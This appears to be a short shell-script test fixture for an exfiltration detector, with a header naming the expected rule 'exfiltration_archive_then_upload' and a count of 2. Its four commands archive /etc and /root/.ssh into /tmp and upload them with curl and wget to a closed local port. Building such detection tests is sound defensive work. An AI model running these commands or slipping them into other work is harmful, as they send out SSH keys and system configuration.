#!/bin/sh
# Credentials are archived and uploaded, to a closed port.
# expects: exfiltration_archive_then_upload 2

tar -czf /tmp/settings.tgz /etc
curl -s -T /tmp/settings.tgz http://127.0.0.1:9/
tar -cf /tmp/keys.tar /root/.ssh
wget -q --post-file=/tmp/keys.tar http://127.0.0.1:9/
